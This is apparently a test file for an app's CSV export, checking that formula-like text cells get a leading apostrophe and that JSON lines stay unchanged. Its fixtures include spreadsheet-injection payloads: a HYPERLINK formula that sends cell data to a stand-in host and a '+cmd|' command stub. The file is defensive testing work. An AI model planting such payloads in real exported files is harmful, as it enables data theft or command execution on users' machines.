// The CSV the app's exports and the command line write: opened in a spreadsheet, a text cell that
// starts with = + - @ (or a tab or carriage return) would run as a formula, so it is written with a
// leading apostrophe; numbers, negative ones too, stay numbers, and JSON lines keep the text as it is.
import { describe, expect, it } from 'vitest';
import { headerText, rowsText } from '../../../src/core/export/row-text.ts';

const columns = ['market_hash_name', 'price', 'net'] as const;

describe('rowsText', () => {
  it('writes a text cell a spreadsheet would run as a formula with a leading apostrophe', () => {
    const rows = [
      { market_hash_name: '=HYPERLINK("http://x.example/?"&A1,"click")', price: 100, net: -5 },
      { market_hash_name: '+cmd|', price: 1, net: 0 },
      { market_hash_name: '-2+3', price: 1, net: 0 },
      { market_hash_name: '@SUM(A1:A2)', price: 1, net: 0 },
      { market_hash_name: 'AK-47 | Redline (Field-Tested)', price: 1, net: 0 },
    ];
    const csv = rowsText(rows, columns, 'csv').split('\n');
    expect(csv).toEqual([
      `"'=HYPERLINK(""http://x.example/?""&A1,""click"")",100,-5`,
      `'+cmd|,1,0`,
      `'-2+3,1,0`,
      `'@SUM(A1:A2),1,0`,
      'AK-47 | Redline (Field-Tested),1,0',
      '',
    ]);
  });

  it('still quotes commas, quotes and newlines, and leaves JSON lines as they are', () => {
    const rows = [{ market_hash_name: 'Sticker | "a, b"\nc', price: 1, net: -1 }];
    expect(headerText(columns, 'csv')).toBe('market_hash_name,price,net\n');
    expect(rowsText(rows, columns, 'csv')).toBe('"Sticker | ""a, b""\nc",1,-1\n');
    const evil = [{ market_hash_name: '=1+1', price: 1, net: -1 }];
    expect(JSON.parse(rowsText(evil, columns, 'jsonl'))).toEqual(evil[0]);
  });
});
